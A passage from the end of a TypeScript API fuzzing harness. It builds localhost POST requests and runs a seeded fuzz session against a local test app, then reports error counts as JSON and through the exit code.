  return new Request(`http://localhost${path}`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
}

// ---------------------------------------------------------------------------------------------
// The command.

if (import.meta.main) {
  const { values } = parseArgs({ options: { requests: { type: "string", default: "20000" }, seed: { type: "string" }, accounts: { type: "string", default: "3" } } });
  const seed = values.seed === undefined ? Math.floor(Math.random() * 2 ** 31) : Number(values.seed);
  const { startFuzzEnvironment } = await import("./environment.ts");
  const environment = await startFuzzEnvironment("api_fuzz_cli");
  let summary: FuzzSummary;
  try {
    summary = await fuzzApi({ app: environment.app, seed, requests: Number(values.requests), accounts: Number(values.accounts) });
  } finally {
    await environment.stop();
  }
  process.stdout.write(`${JSON.stringify(summary)}\n`);
  process.exitCode = summary.serverErrors + summary.thrown + summary.badErrorBodies > 0 ? 1 : 0;
}
